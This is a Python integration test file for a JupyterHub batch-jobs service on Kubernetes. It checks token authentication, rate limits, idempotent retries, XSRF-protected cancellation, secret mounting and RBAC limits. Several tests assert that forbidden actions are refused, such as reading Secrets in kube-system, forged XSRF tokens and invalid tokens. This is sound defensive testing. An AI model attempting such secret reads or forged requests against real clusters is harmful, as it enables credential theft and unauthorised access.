        None, "POST", "api/jobs", job_body(), token="not-a-hub-token"
    )
    assert (status, headers["WWW-Authenticate"]) == (
        401,
        'Bearer realm="aiinfn-jobs", error="invalid_token"',
    )
    assert body["message"].startswith("the token sent is not valid")
    assert await asyncio.to_thread(first_answer, f"{env.hub.url}{PREFIX}") == (
        302,
        "/hub/api/oauth2/authorize",
    )
    status, body, _ = await env.api(None, "GET", "api/jobs", token=env.hub.token)
    assert (status, body["message"]) == (403, "only users can use this service")
    _, narrow = await asyncio.to_thread(
        env.hub.request, "POST", "/users/alice/tokens", {"scopes": ["read:users:name!user"]}
    )
    status, body, _ = await env.api(None, "GET", "api/jobs", token=narrow["token"])
    assert (status, body["message"]) == (403, "this token may not use this service")
    status, doc, _ = await env.api(None, "GET", "api/openapi.json")
    assert status == 200 and "/api/clones" in doc["paths"]
    assert doc["components"]["schemas"]["JobRequest"]["additionalProperties"] is False
    assert (await env.api("alice", "GET", "api/nothing-here"))[0] == 404
    status, cancelled, _ = await env.api("ada", "DELETE", f"api/jobs/{job['id']}")
    assert status == 200 and job["id"] not in (await our_objects(env, core, batch))[0]


async def test_the_hub_account_may_do_only_what_the_shipped_roles_say(env):
    """The service runs as the hub's ServiceAccount (as in the hub pod): its namespace's jobs,
    nothing in other namespaces, no namespaces, no changes to a job."""
    service_api = await k8s.api_client(str(env.service.kubeconfig))
    async with service_api:
        core, batch = client.CoreV1Api(service_api), client.BatchV1Api(service_api)
        assert (await batch.list_namespaced_job(env.namespace)).items is not None
        for forbidden in (
            core.list_namespaced_secret("kube-system"),
            core.create_namespace({"metadata": {"name": f"{env.namespace}-x"}}),
            batch.patch_namespaced_job("any", env.namespace, {"metadata": {"labels": {"a": "b"}}}),
            batch.list_namespaced_job("kube-system"),
        ):
            with pytest.raises(client.ApiException) as error:
                await forbidden
            assert error.value.status == 403


async def test_the_rate_limit_answers_429_with_retry_after(env):
    env.service.stop()
    await asyncio.to_thread(
        env.service.start, None, "--AiInfnJobs.rate_limit=0.01", "--AiInfnJobs.rate_limit_burst=3"
    )
    try:
        answers = [await env.api("dave", "GET", "api/jobs") for _ in range(4)]
        assert [a[0] for a in answers] == [200, 200, 200, 429]
        assert (
            answers[3][1]["message"].startswith("too many requests")
            and int(answers[3][2]["Retry-After"]) >= 1
        )
        assert (await env.api("bob", "GET", "api/jobs"))[0] == 200
    finally:
        env.service.stop()
        await asyncio.to_thread(env.service.start)


# -- idempotency and restarts -------------------------------------------------------------------


def blackhole_kubeconfig(kubeconfig: Path, tmp: Path) -> tuple[Path, socket.socket]:
    """A kubeconfig whose API server accepts connections and never answers."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    document = yaml.safe_load(kubeconfig.read_text())
    for entry in document["clusters"]:
        entry["cluster"]["server"] = f"https://127.0.0.1:{listener.getsockname()[1]}"
    path = tmp / "blackhole.kubeconfig"
    path.write_text(yaml.safe_dump(document))
    return path, listener


async def test_idempotency_keys_and_restarts_lose_and_duplicate_nothing(env, core, batch):
    body = job_body(name="once", idempotency_key="k-once")
    results = await asyncio.gather(*(env.api("alice", "POST", "api/jobs", body) for _ in range(8)))
    assert sorted(r[0] for r in results) == [200] * 7 + [201]
    assert len({r[1]["id"] for r in results}) == 1
    status, answer, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(name="other", idempotency_key="k-once")
    )
    assert status == 409 and "already used for a different job" in answer["message"]
    status, bobs, _ = await env.api("bob", "POST", "api/jobs", body)
    assert status == 201 and bobs["id"] != results[0][1]["id"]

    # Killed before anything was created: the cluster never answers, the service dies mid-request.
    service = env.service
    service.stop()
    blackhole, listener = blackhole_kubeconfig(service.kubeconfig, service.tmp)
    try:
        await asyncio.to_thread(service.start, blackhole)
        pending = asyncio.ensure_future(
            env.api(
                "alice",
                "POST",
                "api/jobs",
                job_body(name="crash", idempotency_key="k-crash", files={"data.txt": "1"}),
            )
        )
        await asyncio.sleep(1.0)
        assert not pending.done()
        service.stop(signal.SIGKILL)
        assert (await pending)[0] >= 500
    finally:
        listener.close()
    await asyncio.to_thread(service.start)
    jobs, _ = await our_objects(env, core, batch)
    status, crash, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(name="crash", idempotency_key="k-crash", files={"data.txt": "1"}),
    )
    assert status == 201, crash

    # Killed after the Job was created (the answer lost): the retry gets that Job back.
    service.stop(signal.SIGKILL)
    await asyncio.to_thread(service.start)
    status, again, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(name="crash", idempotency_key="k-crash", files={"data.txt": "1"}),
    )
    assert (status, again["id"]) == (200, crash["id"])
    after, sandboxes = await our_objects(env, core, batch)
    assert sorted(set(after) - set(jobs)) == [crash["id"]] and crash["id"] in sandboxes


# Starts the service, says its pid, and waits: a hub that can die without stopping its services.
PARENT = (
    "import subprocess, sys; child = subprocess.Popen(sys.argv[1:]); "
    "print(child.pid, flush=True); child.wait()"
)


async def test_the_service_stops_when_the_hub_that_started_it_dies(env):
    service = Service(
        env.service.tmp, env.hub, free_port(), env.service.token, env.service.kubeconfig
    )
    parent = subprocess.Popen(
        [sys.executable, "-c", PARENT, *service.argv()],
        env=service.environment(),
        cwd=service.tmp,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    child = int(await asyncio.to_thread(parent.stdout.readline))

    async def gone():
        try:
            with open(f"/proc/{child}/stat") as stat:
                return stat.read().rsplit(")", 1)[1].split()[0] == "Z"
        except FileNotFoundError:
            return True

    try:
        await wait_until(lambda: asyncio.to_thread(service.answers), "the second service to answer")
        os.kill(parent.pid, signal.SIGKILL)
        parent.wait()
        await wait_until(gone, "the orphaned service to stop")
    finally:
        if not await gone():
            os.kill(child, signal.SIGKILL)
        parent.stdout.close()


async def test_sandboxes_of_interrupted_submissions_are_reused_or_swept(env, core, batch):
    def orphan(key: str) -> dict:
        """What a submission killed between writing its sandbox and creating its Job leaves."""
        return {
            "metadata": {
                "name": job_name("alice", key),
                "labels": {
                    labels.MANAGED_BY: labels.MANAGED_BY_VALUE,
                    labels.COMPONENT: "batch-job-sandbox",
                    labels.OWNER: "alice",
                },
                "annotations": {
                    labels.OWNER_NAME: "alice",
                    labels.IDEMPOTENCY_KEY: key,
                    labels.REQUEST_DIGEST: "0",
                },
            },
            "data": {"data.txt": "stale"},
        }

    await core.create_namespaced_config_map(env.namespace, orphan("k-retry"))
    await core.create_namespaced_config_map(env.namespace, orphan("k-abandoned"))
    status, job, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(name="retry", idempotency_key="k-retry", files={"data.txt": "fresh"}),
    )
    assert status == 201, job
    sandbox = await core.read_namespaced_config_map(job["id"], env.namespace)
    assert (
        sandbox.data == {"data.txt": "fresh"}
        and sandbox.metadata.owner_references[0].name == job["id"]
    )

    async def swept():
        return job_name("alice", "k-abandoned") not in (await our_objects(env, core, batch))[1]

    await wait_until(swept, "the abandoned sandbox to be swept")


async def test_resubmission_runs_the_same_request_again(env):
    _, first, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(
            name="again", command=None, script="#!/bin/sh\necho again\n", files={"in.txt": "x"}
        ),
    )
    await wait_until(lambda: state_of(env, "alice", first["id"], "succeeded"), "the first run")
    status, second, _ = await env.api(
        "alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"}
    )
    assert status == 201 and second["id"] != first["id"] and second["name"] == "again"
    assert (
        await env.api(
            "alice", "POST", f"api/jobs/{first['id']}/resubmit", {"idempotency_key": "r1"}
        )
    )[1]["id"] == second["id"]
    await wait_until(lambda: state_of(env, "alice", second["id"], "succeeded"), "the second run")


# -- the page -----------------------------------------------------------------------------------


async def test_the_jobs_page_lists_jobs_and_cancels_them_with_xsrf(env, batch, a30_taken):
    _, job, _ = await env.api("alice", "POST", "api/jobs", job_body(name="pagejob", **A30))
    await wait_until(
        lambda: state_of(env, "alice", job["id"], "queued", placed=True), "the job to wait"
    )
    status, page = await asyncio.to_thread(env.hub.page, PREFIX, "alice")
    assert status == 200, page
    assert f'data-job="{job["id"]}"' in page and "pagejob" in page and 'data-state="queued"' in page
    xsrf = re.search(r'name="_xsrf" value="([^"]+)"', page).group(1)
    status, other = await asyncio.to_thread(env.hub.page, PREFIX, "bob")
    assert status == 200 and job["id"] not in other

    browser = env.hub.browsers["alice"]
    cancel = f"{env.hub.url}{PREFIX}jobs/{job['id']}/cancel"

    def post(data: bytes) -> int:
        try:
            with browser.open(
                urllib.request.Request(cancel, data=data, method="POST"), timeout=30
            ) as response:
                return response.status
        except urllib.error.HTTPError as error:
            return error.code

    assert await asyncio.to_thread(post, b"") == 403
    assert await asyncio.to_thread(post, b"_xsrf=forged") == 403
    assert (
        await batch.read_namespaced_job(job["id"], env.namespace)
    ).metadata.deletion_timestamp is None
    assert await asyncio.to_thread(post, f"_xsrf={xsrf}".encode()) == 200
    status, _, _ = await env.api("alice", "GET", f"api/jobs/{job['id']}")
    assert status == 404


# -- the hub runs the service; a notebook terminal clones its notebook ----------------------------


async def terminal(hub: Hub, token: str, command: str, until: str) -> str:
    """Type a command in a new JupyterLab terminal of alice's notebook; its output up to `until`."""
    headers = {"Authorization": f"token {token}"}
    request = urllib.request.Request(
        f"{hub.url}/user/alice/api/terminals", data=b"{}", method="POST", headers=headers
    )
    name = json.loads(
        await asyncio.to_thread(lambda: urllib.request.urlopen(request, timeout=30).read())
    )["name"]
    socket_url = f"{hub.url.replace('http', 'ws', 1)}/user/alice/terminals/websocket/{name}"
    connection = await websocket_connect(HTTPRequest(socket_url, headers=headers))
    output = ""
    try:
        await connection.write_message(json.dumps(["stdin", command + "\r"]))
        while not re.search(until, output):
            message = await asyncio.wait_for(connection.read_message(), 60)
            assert message is not None, output
            kind, *data = json.loads(message)
            if kind == "stdout":
                output += data[0]
    finally:
        connection.close()
    return output


async def test_clone_from_a_notebook_terminal(
    devcluster, pod_runner, api_client, kueue, core, tmp_path
):
    """The done-when of the job service: the hub runs the service as 40-jobs.py registers it (on a
    free port); in a real JupyterLab terminal of a real notebook, `aiinfn jobs clone -- python
    train.py` makes a Kueue job from the notebook pod that is admitted, runs the script from the
    notebook's home and completes; it shows in `aiinfn jobs list`, its log and the jobs page."""
    kubeconfig, _ = devcluster
    name = f"t-jobsm-{uuid.uuid4().hex[:8]}"
    storage = await prepare(api_client, name, tmp_path / "storage", kueue)
    lines = [
        "c.KubeSpawner.get_pod_url = None",
        "c.JupyterHub.public_url = c.JupyterHub.bind_url",
        f"load_subconfig({str(REPO / 'jupyterhub_config.d' / '40-jobs.py')!r})",
        f"c.JupyterHub.services[-1]['url'] = 'http://127.0.0.1:{free_port()}'",
    ]
    account = await hubaccount.hub_kubeconfig(
        api_client, name, kubeconfig, tmp_path / "hub.kubeconfig"
    )
    hub, responder = await asyncio.to_thread(
        start_hub, tmp_path, account, name, {"alice": USERS["alice"]}, SPAWNER, lines
    )
    try:
        token = await user_token(hub, "alice")
        status, body = await asyncio.to_thread(hub.request, "POST", "/users/alice/server", {})
        assert status in (201, 202), body

        async def ready():
            _, model = await asyncio.to_thread(hub.request, "GET", "/users/alice")
            return (model.get("servers") or {}).get("", {}).get("ready")

        await wait_until(ready, "alice's notebook", limit=180)
        script = {"type": "file", "format": "text", "content": "print('bunshin says', 6 * 7)\n"}
        await asyncio.to_thread(
            lambda: urllib.request.urlopen(
                urllib.request.Request(
                    f"{hub.url}/user/alice/api/contents/train.py",
                    data=json.dumps(script).encode(),
                    method="PUT",
                    headers={"Authorization": f"token {token}"},
                ),
                timeout=30,
            ).read()
        )

        output = await terminal(
            hub, token, "aiinfn jobs clone -- python train.py", r"job-[0-9a-f]{20}.*\n"
        )
        job_id = re.search(r"job-[0-9a-f]{20}", output).group(0)
        environment = Env(hub, None, name, {"alice": token})
        done = await wait_until(
            lambda: state_of(environment, "alice", job_id, "succeeded", "failed"),
            "the clone to run",
            limit=120,
        )
        assert done["state"] == "succeeded", done
        assert (done["kind"], done["admission"]["cluster_queue"]) == ("bunshin", "project-cms-2dml")
        _, logs, _ = await environment.api("alice", "GET", f"api/jobs/{job_id}/logs")
        assert "bunshin says 42" in logs["pods"][0]["log"]

        job = await client.BatchV1Api(api_client).read_namespaced_job(job_id, name)
        pods = await core.list_namespaced_pod(name, label_selector="component=singleuser-server")
        notebook = pods.items[0].spec
        spec = job.spec.template.spec
        assert spec.containers[0].image == notebook.containers[0].image
        assert (spec.containers[0].command, spec.containers[0].working_dir) == (
            ["python", "train.py"],
            "/home/jovyan",
        )
        # No token of the notebook's; the path of the owner's access-token file, which the
        # service mounts itself (the notebook's own token volume is dropped).
        assert [
            (e.name, e.value)
            for e in spec.containers[0].env
            if "TOKEN" in e.name or e.name.startswith("JUPYTERHUB_")
        ] == [("AIINFN_ACCESS_TOKEN_FILE", "/var/run/secrets/aiinfn/access_token")]
        server_token = next(
            e.value for e in notebook.containers[0].env if e.name == "JUPYTERHUB_API_TOKEN"
        )
        assert server_token not in json.dumps(api_client.sanitize_for_serialization(job))
        assert {v.name for v in spec.volumes} == {v.name for v in notebook.volumes} | {
            "access-token"
        }
        token_volume = next(v for v in spec.volumes if v.name == "access-token").secret
        assert (token_volume.secret_name, token_volume.optional) == ("aiinfn-token-alice", True)
        assert [(i.key, i.path) for i in token_volume.items] == [("access_token", "access_token")]
        assert spec.security_context.run_as_user == notebook.security_context.run_as_user

        listed = await terminal(hub, token, "aiinfn jobs list", r"succeeded")
        assert job_id in listed
        status, page = await asyncio.to_thread(hub.page, PREFIX, "alice")
        assert status == 200 and f'data-job="{job_id}"' in page and 'data-state="succeeded"' in page
    finally:
        await asyncio.to_thread(hub.request, "DELETE", "/users/alice/server")
        await asyncio.to_thread(stop_hub, hub, responder)
        await core.delete_namespace(name)
        await hubaccount.delete_cluster_objects(api_client, name)
        await devstorage.delete_volumes(api_client, storage)


# -- data for jobs: the owner's token, project secrets, JuiceFS credentials ---------------------

# Prints digests of the user's token file and of a project Secret's file, never the values.
READ_DATA = (
    "import hashlib, os\n"
    "token = open(os.environ['AIINFN_ACCESS_TOKEN_FILE'], 'rb').read()\n"
    "secret = open('/aiinfn/secrets/cms-ml-db/password', 'rb').read()\n"
    "print(hashlib.sha256(token).hexdigest(), hashlib.sha256(secret).hexdigest())\n"
)


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@contextlib.asynccontextmanager
async def restarted(env: Env, *args: str):
    """The service restarted with these extra settings, and as before afterwards."""
    env.service.stop()
    await asyncio.to_thread(env.service.start, None, *args)
    try:
        yield env
    finally:
        env.service.stop()
        await asyncio.to_thread(env.service.start)


async def make_secret(core, namespace: str, body: dict) -> None:
    try:
        await core.create_namespaced_secret(namespace, body)
    except client.ApiException as error:
        if error.status != 409:
            raise
        await core.replace_namespaced_secret(body["metadata"]["name"], namespace, body)


async def test_jobs_get_the_owners_token_and_their_projects_secrets_by_name_only(
    env, core, batch, pod_runner
):
    token, password = f"eyJ.{secrets.token_hex(16)}.sig", secrets.token_hex(16)
    await make_secret(core, env.namespace, tokens.make_secret("alice", token))
    await make_secret(
        core,
        env.namespace,
        {"metadata": {"name": "cms-ml-db"}, "stringData": {"password": password}},
    )
    settings = json.dumps({"cms-ml": ["cms-ml-db"]})
    async with restarted(env, f"--AiInfnJobs.project_secrets={settings}"):
        status, body, _ = await env.api(
            "alice", "POST", "api/jobs", job_body(secrets=["aiinfn-token-bob"])
        )
        assert (status, body["message"]) == (400, "invalid request: unknown field 'secrets'")
        status, body, _ = await env.api(
            "alice", "POST", "api/jobs", job_body(offload="only", volumes=[])
        )
        assert (
            status == 400
            and "podman-vm: receives no project secrets (this project's " in (body["message"])
        )
        status, job, _ = await env.api(
            "alice", "POST", "api/jobs", job_body(name="data", command=["python", "-c", READ_DATA])
        )
        assert status == 201, job
        done = await wait_until(
            lambda: state_of(env, "alice", job["id"], "succeeded"), "the job to read its data"
        )
        status, logs, _ = await env.api("alice", "GET", f"api/jobs/{job['id']}/logs")
        assert logs["pods"][0]["log"] == f"{sha256(token)} {sha256(password)}\n"
        _, listing, _ = await env.api("alice", "GET", "api/jobs")
        log = env.service.log()
    for shown in (json.dumps(done), json.dumps(listing), json.dumps(logs), log):
        assert token not in shown and password not in shown
    pod = (await batch.read_namespaced_job(job["id"], env.namespace)).spec.template.spec
    mounts = {m.name: m for m in pod.containers[0].volume_mounts}
    assert (mounts["access-token"].mount_path, mounts["access-token"].read_only) == (
        "/var/run/secrets/aiinfn",
        True,
    )
    assert (mounts["aiinfn-secret-0"].mount_path, mounts["aiinfn-secret-0"].read_only) == (
        "/aiinfn/secrets/cms-ml-db",
        True,
    )
    # bob's project has no secrets: his jobs get his own token only.
    status, other, _ = await env.api("bob", "POST", "api/jobs", job_body(name="bobs"))
    assert status == 201, other
    volumes = (await batch.read_namespaced_job(other["id"], env.namespace)).spec.template.spec
    assert [v.secret.secret_name for v in volumes.volumes if v.secret] == ["aiinfn-token-bob"]
    await env.api("bob", "DELETE", f"api/jobs/{other['id']}")


# Two sites: the Podman VM may get the JuiceFS credentials, Leonardo may not.
JUICEFS_SITES = {
    "podman-vm": {"flavor": "vk-podman-vm", "juicefs_credentials": True},
    "leonardo-slurm": {
        "flavor": "vk-leonardo-slurm",
        "accepts_accelerator_kinds": ["cpu", "gpu"],
        "max_runtime_seconds": 86400,
    },
}


async def test_juicefs_credentials_go_only_to_sites_that_allow_them(env, core, batch):
    await make_secret(
        core,
        env.namespace,
        {"metadata": {"name": "juicefs-remote"}, "stringData": {"META_URL": "redis://x"}},
    )
    args = (
        f"--AiInfnJobs.sites={JUICEFS_SITES!r}",  # Python: json.dumps would write true
        "--AiInfnJobs.juicefs_credentials_secret=juicefs-remote",
        "--AiInfnStorage.juicefs_claim=aiinfn-juicefs",
    )
    remote = {"offload": "only", "volumes": ["juicefs"], "deadline_seconds": 3600}
    async with restarted(env, *args):
        status, body, _ = await env.api(
            "alice", "POST", "api/jobs", job_body(accelerator="t4", **remote)
        )
        assert (status, body["message"]) == (
            400,
            "no remote site accepts this job: podman-vm: accepts no GPU; leonardo-slurm: "
            "receives no JuiceFS credentials (ask for no juicefs volume)",
        )
        status, job, _ = await env.api("alice", "POST", "api/jobs", job_body(**remote))
        assert status == 201, job
        status, local, _ = await env.api("alice", "POST", "api/jobs", job_body(volumes=["juicefs"]))
        assert status == 201, local
        done = await wait_until(
            lambda: state_of(env, "alice", job["id"], "succeeded"), "the job at the Podman VM"
        )
    assert (done["site"], done["sites"]) == ("podman-vm", ["podman-vm"])
    spec = (await batch.read_namespaced_job(job["id"], env.namespace)).spec.template.spec
    # No claim (no site can mount one): the credentials, for the site's own FUSE mount.
    assert {v.name: (v.secret.secret_name if v.secret else None) for v in spec.volumes} == {
        "access-token": "aiinfn-token-alice",
        "juicefs-credentials": "juicefs-remote",
    }
    assert {m.mount_path for m in spec.containers[0].volume_mounts if m.read_only} == {
        "/var/run/secrets/aiinfn",
        "/aiinfn/juicefs-credentials",
    }
    spec = (await batch.read_namespaced_job(local["id"], env.namespace)).spec.template.spec
    claims = [
        v.persistent_volume_claim.claim_name for v in spec.volumes if v.persistent_volume_claim
    ]
    assert claims == ["aiinfn-juicefs"] and "juicefs-credentials" not in {
        v.name for v in spec.volumes
    }
    await env.api("alice", "DELETE", f"api/jobs/{local['id']}")


async def test_the_shipped_role_creates_jobs_mounting_secrets_without_reading_them(
    env, api_client, core, batch, devcluster, tmp_path
):
    """Mounting a Secret in a Job's pods needs no right on Secrets: an account with exactly
    helm-values/jobs-service-rbac.yaml's Role creates such a Job (the Job controller makes its
    pods) and may not read the Secret."""
    rbac = [
        d
        for d in yaml.safe_load_all((REPO / "helm-values" / "jobs-service-rbac.yaml").read_text())
        if d and d["kind"] in ("Role", "RoleBinding")
    ]
    account = "jobs-only"
    await core.create_namespaced_service_account(env.namespace, {"metadata": {"name": account}})
    for document in rbac:
        document["metadata"]["namespace"] = env.namespace
        document["metadata"]["name"] = account
        if document["kind"] == "RoleBinding":
            document["roleRef"]["name"] = account
            document["subjects"] = [
                {"kind": "ServiceAccount", "name": account, "namespace": env.namespace}
            ]
        await create_from_dict(api_client, document)
    answer = await core.create_namespaced_service_account_token(
        account, env.namespace, {"spec": {"expirationSeconds": 3600}}
    )
    admin_path = Path(devcluster[0])
    kubeconfig = tmp_path / "jobs-only.kubeconfig"
    config = hubaccount.kubeconfig_with_token(
        yaml.safe_load(admin_path.read_text()),
        answer.status.token,
        env.namespace,
        admin_path.resolve().parent,
    )
    kubeconfig.write_text(yaml.safe_dump(config))
    await make_secret(
        core, env.namespace, {"metadata": {"name": "rbac-probe"}, "stringData": {"k": "v"}}
    )
    job = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": "secret-mount-probe", "labels": {"probe": "rbac"}},
        "spec": {
            "backoffLimit": 0,
            "template": {
                "spec": {
                    **restricted_pod("probe")["spec"],
                    "restartPolicy": "Never",
                    "volumes": [{"name": "s", "secret": {"secretName": "rbac-probe"}}],
                }
            },
        },
    }
    job["spec"]["template"]["spec"]["containers"][0]["volumeMounts"] = [
        {"name": "s", "mountPath": "/probe", "readOnly": True}
    ]
    only = await k8s.api_client(str(kubeconfig))
    async with only:
        jobs_only = client.BatchV1Api(only)

        async def created():
            try:
                return await jobs_only.create_namespaced_job(env.namespace, job)
            except client.ApiException as error:
                if error.status == 403:  # the new binding is not in RBAC's cache yet
                    return None
                raise

        await wait_until(created, "the account to create the Job")
        with pytest.raises(client.ApiException) as error:
            await client.CoreV1Api(only).read_namespaced_secret("rbac-probe", env.namespace)
        assert error.value.status == 403
    try:
        pods = await wait_until(
            lambda: _pods_of(core, env.namespace, "secret-mount-probe"), "the Job's pod"
        )
        assert pods[0].spec.volumes[0].secret.secret_name == "rbac-probe"
    finally:
        await batch.delete_namespaced_job(
            "secret-mount-probe", env.namespace, propagation_policy="Background"
        )


async def _pods_of(core, namespace: str, job: str):
    pods = await core.list_namespaced_pod(namespace, label_selector=f"job-name={job}")
    return pods.items or None
